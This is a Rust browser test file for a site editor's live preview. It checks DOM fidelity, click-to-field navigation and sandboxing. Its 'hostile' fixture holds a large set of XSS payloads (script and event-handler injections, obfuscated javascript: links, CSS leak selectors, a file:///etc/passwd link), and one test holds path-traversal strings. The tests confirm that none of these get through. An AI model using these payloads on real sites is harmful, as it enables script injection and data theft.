//! The live page: the site's own DOM, whatever was done on the way; a click leads to the field; nothing in it runs.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::thread;

use casebook::page::PageKind;
use casebook::render::{self, Marks};
use casebook_tests::app::App;
use casebook_tests::hand::PAGE;
use casebook_tests::site::Site;
use frontmatter::FrontMatter;
use serde_json::{Value, json};

use crate::tour::open;
use crate::{block, english, item, on_page, show_block};

/// The page of a text as the site makes it; none when it cannot be read.
fn rendered(site: &Site, path: &str, text: &str) -> Option<String> {
    let front = FrontMatter::parse(text.to_owned()).ok()?;
    let markup = casebook::site::Site::open(&site.root()).unwrap().markup();
    Some(render::page(PageKind::of(&site.file(path)), front.root(), &markup, Marks::Off))
}

/// How the frame's DOM differs from that of some HTML; null when it does not.
const DIFFERENCE: &str = r#"
    const [html] = arguments;
    const wanted = new DOMParser().parseFromString(html, 'text/html').querySelector('main');
    const shown = document.querySelector('iframe').contentDocument.querySelector('main');
    const attributes = (one) => [...one.attributes]
        .filter(({ name }) => name !== 'data-part' && name !== 'data-place' && name !== 'data-missing')
        // The list page's pictures wait for the site's script.
        .filter(({ name, value }) => !(name === 'src' && value === one.dataset?.src))
        .map(({ name, value }) => {
            if (name !== 'style') return `${name}=${value}`;
            const probe = document.createElement('i');
            probe.style.cssText = value;
            return `style=${probe.style.cssText || value}`;
        }).sort().join(' ');
    const compare = (a, b, at) => {
        if (a.nodeType !== b.nodeType) return `${at}: ${b.nodeName} instead of ${a.nodeName}`;
        if (a.nodeType === 3) return a.nodeValue === b.nodeValue ? null : `${at}: "${b.nodeValue}" instead of "${a.nodeValue}"`;
        if (a.nodeName !== b.nodeName) return `${at}: ${b.nodeName} instead of ${a.nodeName}`;
        if (a.nodeType === 1 && attributes(a) !== attributes(b)) return `${at}: ${attributes(b)} instead of ${attributes(a)}`;
        // Between blocks no blank shows.
        const counts = (one) => one.nodeType !== 3 || /\S/.test(one.nodeValue) || !/^(MAIN|SECTION|DIV|UL|LI)$/.test(one.parentNode.nodeName);
        const [of, to] = [[...a.childNodes].filter(counts), [...b.childNodes].filter(counts)];
        if (of.length !== to.length) return `${at}: ${to.length} children instead of ${of.length}: ${b.outerHTML} instead of ${a.outerHTML}`;
        for (let i = 0; i < of.length; i++) {
            const found = compare(of[i], to[i], `${at} > ${of[i].nodeName}[${i}]`);
            if (found) return found;
        }
        return null;
    };
    for (const one of [wanted, shown]) one?.normalize();
    return wanted && shown ? compare(wanted, shown, 'main') : `no main: ${wanted} ${shown}`;
"#;

async fn difference(app: &App, html: &str) -> Value {
    app.client.execute(DIFFERENCE, vec![json!(html)]).await.unwrap()
}

/// Opens every page of a site from its overview, and holds each against the site's own HTML.
async fn every_page(site: &Site) -> usize {
    let app = english().site(&site.root()).start().await;
    let mut held = 0;
    for path in &site.pages() {
        let text = site.read(path);
        let Some(html) = rendered(site, path, &text) else { continue };
        // Where the site's page ends early, the frame has the places that the first block will need.
        if !text.contains("\nsection2:") {
            continue;
        }
        open(&app, path).await;
        app.until(&format!("{PAGE}?.children.length > 0")).await;
        assert_eq!(difference(&app, &html).await, Value::Null, "{path}");
        app.run("document.querySelector('header.toolbar .side > .icon-button').click()").await;
        held += 1;
    }
    app.end().await;
    held
}

#[tokio::test]
async fn every_page_of_ours_is_the_sites_page() {
    assert!(every_page(&Site::sample()).await >= 10);
    assert!(every_page(&Site::odd()).await >= 3);
}

#[tokio::test]
async fn every_page_of_the_corpus_is_the_sites_page() {
    match Site::corpus() {
        Some(site) => assert!(every_page(&site).await >= 20),
        None => eprintln!("skipped: no corpus at CASEBOOK_CORPUS or ../shared/corpus, only pages of our own"),
    }
}

#[tokio::test]
async fn after_edits_of_every_kind_it_is_still_the_sites_page() {
    let site = Site::odd();
    let path = "content/zh/case/harbour.md";
    let app = on_page(&site, path).await;
    let title = r#"textarea[data-field="0/section1/title"]"#;
    crate::show(&app, "banner").await;
    app.until(&format!("document.activeElement.matches({title:?})")).await;
    app.insert("海 & 港 <b>").await;
    let deeds: [(usize, &str, &str); 6] = [
        (0, "Ctrl+d", ""),
        (1, "Alt+ArrowDown", ""),
        (3, "Alt+ArrowUp", ""),
        (4, "", "Delete"),
        (0, "", "Move down"),
        (2, "Ctrl+d", ""),
    ];
    for (index, keys, choice) in deeds {
        show_block(&app, index).await;
        if keys.is_empty() {
            app.focus(&format!("{} .card > :first-child > .icon-button", block(index))).await;
            app.key("Enter").await;
            app.choose(choice).await;
        } else {
            app.key(keys).await;
        }
        same_as_site(&app, &site, path).await;
    }
    show_block(&app, 0).await;
    app.focus(&format!("{} textarea", item(0, 0))).await;
    app.insert("**粗** [链](https://e.org) <i>x</i> `c`").await;
    app.key("Enter").await;
    same_as_site(&app, &site, path).await;
    for _ in 0..4 {
        app.key("Ctrl+z").await;
        same_as_site(&app, &site, path).await;
    }
    app.key("Ctrl+Shift+z").await;
    same_as_site(&app, &site, path).await;
    app.end().await;
}

/// Saves, and holds the frame against the page of what is in the file now.
async fn same_as_site(app: &App, site: &Site, path: &str) {
    app.key("Ctrl+s").await;
    app.until_saved().await;
    let begun = std::time::Instant::now();
    loop {
        let html = rendered(site, path, &site.read(path)).unwrap();
        let found = difference(app, &html).await;
        if found == Value::Null {
            return;
        }
        assert!(begun.elapsed().as_secs() < 10, "{found}");
        // The key may be on its way still.
        app.key("Ctrl+s").await;
    }
}

#[tokio::test]
async fn a_click_in_the_page_leads_to_the_field() {
    let site = Site::sample();
    let app = on_page(&site, "content/zh/case/qinglu.md").await;
    let words = [
        "青鹭冷链在华东运营",
        "每辆车加装一个网关",
        "质量负责人双人复核",
        "全年货损金额下降",
        "林晓汀，青鹭",
        "浙江宁波",
    ];
    for text in words {
        let place = format!(
            "const frame = document.querySelector('iframe'); const page = frame.contentDocument; \
             const found = [...page.querySelectorAll('[data-place]')].filter((one) => one.textContent.includes({text:?})).at(-1); \
             const pane = document.querySelector('.preview .pane'); const scale = frame.getBoundingClientRect().width / frame.offsetWidth; \
             const box = found.getBoundingClientRect(); pane.scrollTop = Math.max(0, (box.top + box.height / 2) * scale - 200); \
             const at = frame.getBoundingClientRect(); \
             return [at.left + (box.left + Math.min(box.width, 60) / 2) * scale, at.top + (box.top + box.height / 2) * scale, found.dataset.place]"
        );
        let found = app.run(&place).await;
        let (x, y) = (found[0].as_f64().unwrap(), found[1].as_f64().unwrap());
        app.point_at(x, y).await;
        let place = found[2].as_str().unwrap();
        app.until(&format!("document.activeElement.dataset.field === {place:?}")).await;
        app.until(&format!("document.activeElement.value.includes({text:?})")).await;
    }
    app.end().await;
}

/// A web that notes what is asked of it.
struct Web {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Web {
    fn open() -> Web {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let notes = Arc::clone(&asked);
        thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let notes = Arc::clone(&notes);
                thread::spawn(move || {
                    let mut buffer = [0; 2048];
                    let read = stream.read(&mut buffer).unwrap_or(0);
                    let head = String::from_utf8_lossy(&buffer[..read]);
                    notes.lock().unwrap().push(head.split_whitespace().nth(1).unwrap_or("?").to_owned());
                    let picture = include_bytes!("../../fixtures/site/static/images/case/crane.png");
                    let answer = format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                        picture.len()
                    );
                    let _ = stream.write_all(answer.as_bytes()).and_then(|()| stream.write_all(picture));
                });
            }
        });
        Web { port, asked }
    }

    fn asked(&self) -> Vec<String> {
        let mut asked = self.asked.lock().unwrap().clone();
        asked.sort();
        asked.dedup();
        asked
    }
}

fn hostile(port: u16) -> String {
    let web = format!("http://127.0.0.1:{port}");
    let run = "top.hostile=1;parent.hostile=1;window.hostile=1";
    let parts = [
        format!("<script>{run}</script>"),
        format!("<script src={web}/script.js></script>"),
        format!("<img src=x onerror={run}>"),
        format!("<img src={web}/picture.png onload={run}>"),
        format!("<iframe src={web}/frame></iframe>"),
        format!("<iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'></iframe>"),
        format!("<object data={web}/object></object><embed src={web}/embed>"),
        format!("<form action={web}/form><input name=q autofocus onfocus={run}><button>send</button></form>"),
        format!(
            "<a href=\"javascript:{run}\">run</a> <a href={web}/link>link</a> <a href={web}/blank target=_blank>blank</a>"
        ),
        format!("<meta http-equiv=refresh content=\"0;url={web}/refresh\">"),
        format!("<style>@import url({web}/import.css); body{{background:url({web}/background.png)}}</style>"),
        format!(
            "<link rel=stylesheet href={web}/sheet.css><link rel=prefetch href={web}/prefetch><link rel=preconnect href={web}>"
        ),
        format!("<svg onload={run}><script>{run}</script><image href={web}/svg.png /></svg>"),
        format!(
            "<video src={web}/video.mp4 poster={web}/poster.png autoplay></video><audio src={web}/audio.mp3 autoplay></audio>"
        ),
        format!("<details open ontoggle={run}>x</details>"),
        format!("<base href={web}/>"),
        format!("<b style=\"background:url({web}/style.png)\">styled</b>"),
        format!("<a ping={web}/ping href=#>ping</a>"),
        format!(
            "<a href={web}/top target=_top>top</a> <a href={web}/parent target=_parent>parent</a> <a href={web}/named target=main download>named</a>"
        ),
        format!(
            "<a href=\"JaVaScRiPt:{run}\">case</a> <a href=\"java&#115;cript:{run}\">entity</a> <a href=\"jav&Tab;ascript:{run}\">tab</a> <a href=\"java&NewLine;script:{run}\">newline</a> <a href=\"&#1;javascript:{run}\">control</a> <a href=\" javascript&colon;{run}\">colon</a>"
        ),
        format!(
            "<a href=\"data:text/html,<script>{run}</script>\">data</a> <a href=\"vbscript:{run}\">vb</a> <a href=\"blob:{web}/blob\">blob</a> <a href=\"file:///etc/passwd\">file</a>"
        ),
        format!(
            "[inline](javascript:{run}) ![picture](javascript:{run}) <JavaScript:{run}> [tab](<java\tscript:{run}>)"
        ),
        format!(
            "<img srcset=\"{web}/srcset1 1x, {web}/srcset2 2x\"><picture><source srcset={web}/source><img></picture>"
        ),
        format!(
            "<svg><a xlink:href=\"javascript:{run}\"><text y=20>svg link</text></a><use href={web}/use.svg#x /><animate attributeName=href values=\"javascript:{run}\" onbegin={run} /><set attributeName=onmouseover to={run} /><foreignObject><iframe src={web}/foreign></iframe><body onload={run}></foreignObject><feImage href={web}/feimage /></svg>"
        ),
        format!("<math><maction actiontype=statusline xlink:href=\"javascript:{run}\">math</maction></math>"),
        format!(
            "<body onload={run} onpageshow={run} background={web}/body><frameset onload={run}><frame src={web}/frames></frameset>"
        ),
        format!(
            "<div style=\"background-image:url({web}/inline);list-style:url({web}/list);content:url({web}/content);cursor:url({web}/cursor),auto;-webkit-mask:url({web}/mask)\">styles</div>"
        ),
        format!(
            "<style>[data-place^='1']{{background:url({web}/leak?1)}} a[href*=javascript]{{background-image:url({web}/leak?2)}} @font-face{{font-family:x;src:url({web}/font)}} *{{font-family:x !important}}</style>"
        ),
        format!(
            "<input type=image src={web}/input><button formaction=\"javascript:{run}\" formtarget=_top>act</button><isindex action={web}/isindex><textarea autofocus onfocus={run}></textarea><select onchange={run} autofocus onfocus={run}><option>1</select>"
        ),
        format!(
            "<form id=f action=\"javascript:{run}\"></form><button form=f>far</button><keygen autofocus onfocus={run}>"
        ),
        format!(
            "<video><source src={web}/source.mp4 onerror={run}><track src={web}/track default></video><audio src=x onerror={run}></audio>"
        ),
        format!(
            "<marquee onstart={run}>m</marquee><img src=x ONERROR={run}><img src=x onerror=&#116;op.hostile=1><img/src=x/onerror={run}><p onclick={run} onmouseover={run} onpointerenter={run} onanimationstart={run} ontransitionend={run} tabindex=1 onfocus={run}>handlers</p>"
        ),
        format!(
            "<link rel=modulepreload href={web}/module><link rel=dns-prefetch href={web}><link rel=icon href={web}/icon><link rel=manifest href={web}/manifest><link rel=preload as=image href={web}/preload><link rel=import href={web}/import>"
        ),
        format!(
            "<meta http-equiv=Set-Cookie content=a=b><meta http-equiv=Content-Security-Policy content=\"script-src *\"><meta http-equiv=refresh content=\"0;javascript:{run}\">"
        ),
        format!(
            "<template><script>{run}</script></template><noscript><img src={web}/noscript></noscript><iframe sandbox=\"allow-scripts allow-same-origin allow-top-navigation\" src=\"javascript:{run}\"></iframe><portal src={web}/portal></portal>"
        ),
        format!(
            "<script type=module>import '{web}/import.js';{run}</script><script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{web}/speculation\"]}}]}}</script>"
        ),
        format!(
            "<applet code={web}/applet></applet><bgsound src={web}/bgsound><blink onclick={run}>b</blink><map name=m><area href=\"javascript:{run}\" shape=default></map><img usemap=#m src=/images/case/crane.png>"
        ),
    ];
    let items: String =
        parts.iter().map(|part| format!("        - content: '{}'\n", part.replace('\'', "''"))).collect();
    format!(
        "---\ntitle: Hostile\nsection1:\n  title: Hostile\n  content: A page that wants out.\nsection2:\n  listLeft:\n    - title: All\n      contentList:\n{items}      image: {web}/block.png\n    - type: 2\n      content: '<script>{run}</script>'\n      author: none\n    - title: End\n      contentList:\n        - specialContent:\n            text: runs\n            link: 'javascript:{run}'\n        - content: The last words.\n  rightPart:\n    icon: {web}/logo.png\n    list: []\n---\n"
    )
}

#[tokio::test]
async fn a_hostile_page_runs_nothing_and_asks_nothing() {
    let site = Site::odd();
    let web = Web::open();
    let path = "content/zh/case/hostile.md";
    site.write(path, hostile(web.port));
    let app = on_page(&site, path).await;
    app.until_page_shows("The last words.").await;
    let address = app.run("return location.href").await;
    app.until(&format!("[...{PAGE}.ownerDocument.images].every((image) => image.complete)")).await;

    // Every link and button of it is clicked, as far as a click gets there.
    let points = "const frame = document.querySelector('iframe'); const scale = frame.getBoundingClientRect().width / frame.offsetWidth; \
        const pane = document.querySelector('.preview .pane'); \
        return [...frame.contentDocument.querySelectorAll('a, button, input, select, textarea, summary, video, object, embed, iframe, area, svg, marquee, [onclick]')].map((one) => { const box = one.getBoundingClientRect(); return [box.left * scale, box.top * scale, box.width * scale, box.height * scale] })";
    for one in app.run(points).await.as_array().unwrap() {
        let [left, top, width, height] = [0, 1, 2, 3].map(|at| one[at].as_f64().unwrap());
        let scroll = format!(
            "const pane = document.querySelector('.preview .pane'); pane.scrollTop = Math.max(0, {top} - 100); const frame = document.querySelector('iframe').getBoundingClientRect(); \
             return [frame.left + {left} + {width} / 2, frame.top + {top} + {height} / 2]"
        );
        let at = app.run(&scroll).await;
        app.point_at(at[0].as_f64().unwrap(), at[1].as_f64().unwrap()).await;
    }
    app.until("document.activeElement.dataset.field").await;
    // An edit parses it anew.
    crate::show(&app, "banner").await;
    app.focus(r#"textarea[data-field="0/section1/content"]"#).await;
    app.type_keys("!").await;
    app.until_page_shows("wants out.!").await;

    let untouched = "const inside = document.querySelector('iframe').contentWindow; return [window.hostile === undefined, inside.hostile === undefined, location.href, inside.location.pathname, document.querySelectorAll('iframe').length]";
    assert_eq!(app.run(untouched).await, json!([true, true, address, "/page.html", 1]));
    assert_eq!(web.asked(), Vec::<String>::new(), "nothing is asked of the web");

    // Allowed, pictures come, and nothing else: which also shows that they would have been noticed.
    app.click(".preview .bar button").await;
    app.until(&format!("[...({PAGE}?.ownerDocument.images ?? [])].some((image) => image.src.startsWith('http') && image.naturalWidth > 0)")).await;
    app.until_page_shows("wants out.!").await;
    app.until(&format!("[...{PAGE}.ownerDocument.images].every((image) => image.complete)")).await;
    let asked = web.asked();
    assert!(asked.contains(&"/block.png".to_owned()) && asked.contains(&"/logo.png".to_owned()), "{asked:?}");
    // WebKit opens a second connection on the off chance. The rest are pictures, too, by other names.
    let pictures = "/content /cursor /feimage /inline /input /list /mask /noscript /source /srcset1 /srcset2 ?";
    let others: Vec<_> =
        asked.iter().filter(|path| !path.ends_with(".png") && !pictures.split(' ').any(|one| one == *path)).collect();
    assert_eq!(others, Vec::<&String>::new());
    assert_eq!(app.run("return [window.hostile === undefined, document.querySelector('iframe').contentWindow.hostile === undefined]").await, json!([true, true]));
    app.end().await;
}

#[tokio::test]
async fn pictures_of_the_site_show_and_nothing_outside_of_it() {
    let site = Site::odd();
    let outside = site.root().parent().unwrap().join("outside.png");
    std::fs::write(&outside, include_bytes!("../../fixtures/site/static/images/case/crane.png")).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(&outside, site.file("static/images/case/linked.png")).unwrap();
    std::fs::write(
        site.file("static/images/case/中文 图.png"),
        include_bytes!("../../fixtures/site/static/images/case/crane.png"),
    )
    .unwrap();
    let app = on_page(&site, "content/zh/case/harbour.md").await;
    for (name, wide) in [("crane", 48), ("logo-harbour", 40)] {
        app.until(&format!(r#"{PAGE}.querySelector('img[src*="{name}"]').naturalWidth === {wide}"#)).await;
    }

    let width = "const [src, done] = arguments; const image = new Image(); image.onload = () => done(image.naturalWidth); image.onerror = () => done(0); image.src = src";
    for (path, wide) in [
        ("images/case/crane.png", 48),
        ("images/case/%E4%B8%AD%E6%96%87%20%E5%9B%BE.png", 48),
        ("images/case/linked.png", 0),
        ("../outside.png", 0),
        ("..%2foutside.png", 0),
        ("%2e%2e/%2e%2e/outside.png", 0),
        ("images/..%5c..%5c..%5coutside.png", 0),
        ("images/case/../../../../outside.png", 0),
        ("content/zh/case/harbour.md", 0),
        ("config/_default/config.toml", 0),
    ] {
        let src = format!("site://localhost/{path}");
        let shown = app.client.execute_async(width, vec![json!(src)]).await.unwrap();
        assert_eq!(shown, json!(wide), "{path}");
    }
    let absolute = format!("site://localhost{}", outside.display());
    assert_eq!(app.client.execute_async(width, vec![json!(absolute)]).await.unwrap(), json!(0));
    app.end().await;
}
